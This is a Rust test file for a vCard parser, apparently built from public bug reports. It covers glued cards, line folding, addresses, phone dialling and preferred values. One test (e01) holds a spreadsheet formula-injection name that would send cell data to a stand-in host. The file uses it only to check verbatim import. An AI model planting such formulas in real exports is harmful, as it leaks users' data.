//! Files made after public bug reports about other programs, by their ids, and the rules behind them.

use crate::support::{assert_reach, card, drafts, only, reach, report, reported};
use firsthand_interop::{
    Means, NoticeKind, PersonDraft,
    letter::mailto,
    reach::{dial, key},
    read_vcards,
};
use proptest::prelude::*;

/// Returns what the first number of a card dials.
fn dialled(draft: &PersonDraft) -> String {
    let phone = draft.channels.iter().find(|channel| channel.kind == Means::Phone).expect("a number");
    dial(&phone.value).expect("a number that is dialled").address
}

/// Returns the values of one means.
fn values(draft: &PersonDraft, means: Means) -> Vec<String> {
    reach(draft, means).into_iter().map(|(value, _)| value).collect()
}

#[test]
fn v01_cards_on_one_line_stay_three_people_with_their_own_numbers() {
    let report = report("v01-end-begin-one-line.vcf");
    let drafts = drafts(&report);
    let names: Vec<_> = drafts.iter().map(|draft| draft.name.as_str()).collect();
    assert_eq!(names, ["Radio Nordhang", "Ilka Brandt", "Tomas Reh"]);
    assert_eq!(values(drafts[0], Means::Email), ["desk@radio.example"]);
    assert_eq!(values(drafts[0], Means::Phone), [""; 0]);
    assert_eq!(values(drafts[1], Means::Phone), ["+49 30 5550101"]);
    assert_eq!(values(drafts[2], Means::Phone), ["+49 30 5550102"]);
    assert!(drafts.iter().all(|draft| draft.notices.is_empty()));
}

#[test]
fn v01_marks_are_found_however_they_are_glued() {
    for joint in [
        "END:VCARDBEGIN:VCARD",
        "END:VCARD BEGIN:VCARD",
        "end:vcardbegin:vcard",
        "END:VCARD\u{feff}BEGIN:VCARD",
        "TEL:2END:VCARDBEGIN:VCARD",
        "TEL:2END:VCARD\r\nBEGIN:VCARD",
        "END:VCARDBEGIN:VCARDVERSION:3.0",
        "END:VCARD; BEGIN:VCARD",
    ] {
        let file = format!("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:One\r\nTEL:1\r\n{joint}\r\nFN:Two\r\nTEL:3\r\nEND:VCARD");
        let report = read_vcards(file.as_bytes());
        let names: Vec<_> = report.drafts().map(|draft| draft.name.as_str()).collect();
        assert_eq!((names.as_slice(), report.problems.as_slice()), (&["One", "Two"][..], &[][..]), "{joint}");
        let second = report.cards[1].draft().expect("a person");
        assert_eq!(values(second, Means::Phone), ["3"], "{joint}");
    }
    let note = card("FN:Jo\r\nNOTE:a line such as\r\n END:VCARDBEGIN:VCARD is text");
    assert_eq!(note.note, "a line such asEND:VCARDBEGIN:VCARD is text");
}

#[test]
fn v02_quoted_printable_that_is_folded_as_well() {
    let report = report("v02-qp-folded-with-blank.vcf");
    let draft = only(&report);
    assert_eq!(draft.name, "Анна Петрова");
    assert_eq!(values(draft, Means::Phone), ["+7 495 5550103"]);
    assert_eq!(draft.notices, []);
}

#[test]
fn v02_a_blank_that_is_text_stays() {
    let note = |lines: &str| {
        let file = format!(
            "BEGIN:VCARD\r\nVERSION:2.1\r\nN:Doe;Jo\r\nNOTE;ENCODING=QUOTED-PRINTABLE:{lines}\r\nEND:VCARD\r\n"
        );
        only(&read_vcards(file.as_bytes())).note.clone()
    };
    assert_eq!(note("one=\r\n two"), "one two");
    assert_eq!(note("one=\r\n two=\r\nthree"), "one twothree");
    assert_eq!(note("on=\r\n e=20=\r\n two"), "one two", "every break has a blank");
}

#[test]
fn v03_a_name_with_a_line_break_of_its_own_is_whole() {
    let report = report("v03-blank-line-inside-name.vcf");
    let draft = only(&report);
    assert_eq!(draft.name, "Maris Kalnins Berzins-Ozols");
    assert_eq!(values(draft, Means::Phone), ["+371 67 555 104"]);
    assert_eq!(draft.tags, ["myContacts"]);
    assert_eq!(reported(draft, NoticeKind::Changed), ["FN"]);
    // Without a structured name the blank line says it; without either the line may be anything, and is told.
    assert_eq!(card("FN:Maris Kalnins\r\n\r\nBerzins-Ozols").name, "Maris Kalnins Berzins-Ozols");
    let other = card("FN:Maris Kalnins\r\nBerzins-Ozols");
    assert_eq!((other.name.as_str(), reported(&other, NoticeKind::LeftOut)), ("Maris Kalnins", vec![""]));
    assert_eq!(card("N:Kalnins\r\n\r\nBerzins-Ozols;Maris;;;").name, "Maris Kalnins Berzins-Ozols");
    assert_eq!(card("FN:Jo\r\nNOTE:one\r\n\r\ntwo\r\nthree").note, "one\ntwo\nthree");
    assert_eq!(values(&card("FN:Jo\r\nTEL:1\r\nsome words"), Means::Phone), ["1"]);
}

#[test]
fn v04_an_address_comes_once() {
    let report = report("v04-adr-eighth-part.vcf");
    let draft = only(&report);
    assert_eq!(values(draft, Means::Address), ["12 Coolwater Street, Billford, MT, 59101, United States"]);
    assert_eq!(draft.notices, []);
    assert_eq!(dialled(draft), "tel:4065550105");
    let more = card("FN:Jo\r\nADR:;;Street 1;Town;;;;Third door");
    assert_eq!(values(&more, Means::Address), ["Street 1, Town"]);
    assert_eq!(more.notices[0].message, "A part of ADR was left out: Third door");
    assert_eq!(values(&card("FN:Jo\r\nADR:;;;;;;;Street 1\\nTown"), Means::Address), ["Street 1, Town"]);
}

#[test]
fn v06_two_addresses_on_one_line_are_two() {
    let report = report("v06-two-addresses-one-line.vcf");
    let drafts = drafts(&report);
    assert_eq!(values(drafts[0], Means::Email), ["desk@wegen.example", "night@wegen.example"]);
    assert_eq!(values(drafts[1], Means::Email), ["noor@wegen.example", "noor.v@home.example"]);
    let phones = card("FN:Jo\r\nTEL:+49 30 5550101; +49 171 5550102");
    assert_eq!(values(&phones, Means::Phone), ["+49 30 5550101", "+49 171 5550102"]);
}

#[test]
fn v07_a_display_name_is_no_part_of_the_address() {
    let report = report("v07-mail-with-display-name.vcf");
    let drafts = drafts(&report);
    assert_reach(drafts[0], Means::Email, &[("petra.lang@bau.example", "")]);
    assert_reach(drafts[1], Means::Email, &[("uwe.lang@bau.example", "")]);
    let office = card("FN:Jo\r\nEMAIL:Front desk <desk@bau.example>");
    assert_reach(&office, Means::Email, &[("desk@bau.example", "Front desk")]);
    let work =
        card("FN:Jo Doe\r\nEMAIL;TYPE=WORK:Front desk <desk@bau.example>\r\nEMAIL;TYPE=HOME:Jo Doe <jo@x.example>");
    assert_reach(&work, Means::Email, &[("desk@bau.example", "work, Front desk"), ("jo@x.example", "home")]);
}

#[test]
fn v08_a_name_that_only_exchange_knows_is_passed_over_and_told() {
    let report = report("v08-exchange-address.vcf");
    let draft = only(&report);
    assert_reach(draft, Means::Email, &[("ruth.meyer@amt.example", "")]);
    assert_eq!(reported(draft, NoticeKind::LeftOut), ["EMAIL"]);
    assert!(draft.notices[0].message.contains("/o=ExchangeLabs"), "{:?}", draft.notices);
}

#[test]
fn v09_what_cannot_be_seen_is_neither_dialled_nor_written_to() {
    let report = report("v09-invisible-around-number.vcf");
    let drafts = drafts(&report);
    assert_eq!(dialled(drafts[0]), "tel:+49305550109");
    assert_eq!(dialled(drafts[1]), "tel:+49305550110");
    let address = mailto(&values(drafts[0], Means::Email)[0], "", "").expect("one address");
    assert_eq!(address, "mailto:lina@hafen.example");
}

#[test]
fn v10_a_pin_is_not_dialled() {
    let report = report("v10-number-with-pause-and-pin.vcf");
    for (draft, address) in drafts(&report).into_iter().zip(["tel:+16465550111", "tel:+16465550112"]) {
        let dialled = dial(&values(draft, Means::Phone)[0]).expect("a number");
        assert_eq!((dialled.address.as_str(), dialled.beside.as_str()), (address, "820445398#"));
    }
}

#[test]
fn v12_words_before_a_number_and_letters_in_it() {
    let report = report("v12-words-before-number.vcf");
    let drafts = drafts(&report);
    let numbers: Vec<_> = drafts.iter().map(|draft| dialled(draft)).collect();
    assert_eq!(numbers, ["tel:18003569377", "tel:+49305550115", "tel:01715550116"]);
    assert_eq!(values(drafts[0], Means::Phone), ["1-800-FLOWERS"], "what the card said is there for reading");
}

#[test]
fn v24_the_preferred_ones_are_marked_and_the_order_stays() {
    let report = report("v24-preferred-address.vcf");
    let drafts = drafts(&report);
    assert_reach(drafts[0], Means::Email, &[("old1@home.example", "home"), ("greta@work.example", "work*")]);
    assert_reach(drafts[0], Means::Phone, &[("+47 22 55 50 24", "home"), ("+47 900 55 024", "cell*")]);
    assert_reach(drafts[1], Means::Email, &[("a@old.example", ""), ("hanna@work.example", "*"), ("b@old.example", "")]);
    assert_reach(drafts[1], Means::Phone, &[("+47-22-55-50-25", ""), ("+47-900-55-025", "*")]);
    // The least number is preferred, whatever it is (RFC 6350, 5.3).
    let second = card("FN:Jo\r\nEMAIL;PREF=50:a@x.example\r\nEMAIL;PREF=49:b@x.example\r\nEMAIL:c@x.example");
    assert_reach(&second, Means::Email, &[("a@x.example", ""), ("b@x.example", "*"), ("c@x.example", "")]);
}

#[test]
fn v26_two_spellings_are_one_number() {
    let (spaced, bare) = (report("v26a-number-with-spaces.vcf"), report("v26b-number-without-spaces.vcf"));
    let key = |draft: &PersonDraft| key(Means::Phone, &values(draft, Means::Phone)[0]);
    assert_eq!(key(only(&spaced)), key(only(&bare)));
}

#[test]
fn e01_a_name_that_looks_like_a_formula_comes_in_as_it_is() {
    let report = report("e01-person-named-as-formula.vcf");
    assert_eq!(only(&report).name, "=HYPERLINK(\"http://x.example/?d=\"&A2,\"Ana\")");
}

#[test]
fn c92_a_wrong_byte_costs_its_own_letter() {
    let mut file = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Jürgen Größe\r\nORG:Käserei ".as_bytes().to_vec();
    file.extend(b"Allg\xe4u\r\nNOTE:");
    file.extend("Straße – ".as_bytes());
    file.extend(b"\xff 5\r\nEND:VCARD\r\n");
    let report = read_vcards(&file);
    let draft = only(&report);
    assert_eq!((draft.name.as_str(), draft.organization.as_str()), ("Jürgen Größe", "Käserei Allgäu"));
    assert_eq!(draft.note, "Straße – ÿ 5");
}

#[test]
fn c92_a_property_comes_back_from_every_place_it_is_folded_at() {
    let whole = "NOTE;LANGUAGE=de:Gespräch mit Frau Größe – 東京 😀 \\, Café".as_bytes();
    for version in ["2.1", "3.0", "4.0"] {
        for fold in ["\r\n ", "\r\n\t", "\n ", "\r "] {
            for at in 1..whole.len() {
                let (head, tail) = whole.split_at(at);
                // Version 2.1 folds only before white space, and that white space is part of the text.
                if version == "2.1" && !tail.starts_with(b" ") {
                    continue;
                }
                let tail = if version == "2.1" { tail.get(1..).unwrap_or_default() } else { tail };
                let fold = if version == "2.1" { fold.replace('\t', " ") } else { fold.to_owned() };
                let start = format!("BEGIN:VCARD\r\nVERSION:{version}\r\nFN:Jo\r\n");
                let file = [start.as_bytes(), head, fold.as_bytes(), tail, b"\r\nEND:VCARD\r\n"].concat();
                let report = read_vcards(&file);
                assert_eq!(only(&report).note, "Gespräch mit Frau Größe – 東京 😀 , Café", "{version}, {fold:?}, {at}");
            }
        }
    }
}

proptest! {
    #[test]
    fn v02_a_fold_behind_every_soft_break_leaves_the_text(text in "[а-яé東]{2}[а-яé東 ]{0,18}[а-яé東]", width in 4..40usize) {
        // Each byte is escaped, so that a line can break anywhere but inside an escape.
        let escapes: Vec<String> = text.bytes().map(|byte| format!("={byte:02X}")).collect();
        let lines: Vec<String> = escapes.chunks(width / 3).map(|chunk| chunk.concat()).collect();
        let value = lines.join("=\r\n ");
        let file = format!(
            "BEGIN:VCARD\r\nVERSION:2.1\r\nFN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:{value}\r\nEND:VCARD\r\n"
        );
        let report = read_vcards(file.as_bytes());
        let expected = text.split_whitespace().collect::<Vec<_>>().join(" ");
        prop_assert_eq!(&only(&report).name, &expected);
    }

    #[test]
    fn v01_any_glued_cards_stay_apart(names in prop::collection::vec("[A-Z][a-z]{1,8}", 1..6)) {
        let cards: Vec<String> = names.iter().map(|name| format!("BEGIN:VCARD\nFN:{name}\nNOTE:{name}\nEND:VCARD")).collect();
        let report = read_vcards(cards.concat().as_bytes());
        let read: Vec<_> = report.drafts().map(|draft| (draft.name.clone(), draft.note.clone())).collect();
        let expected: Vec<_> = names.iter().map(|name| (name.clone(), name.clone())).collect();
        prop_assert_eq!(read, expected);
    }
}
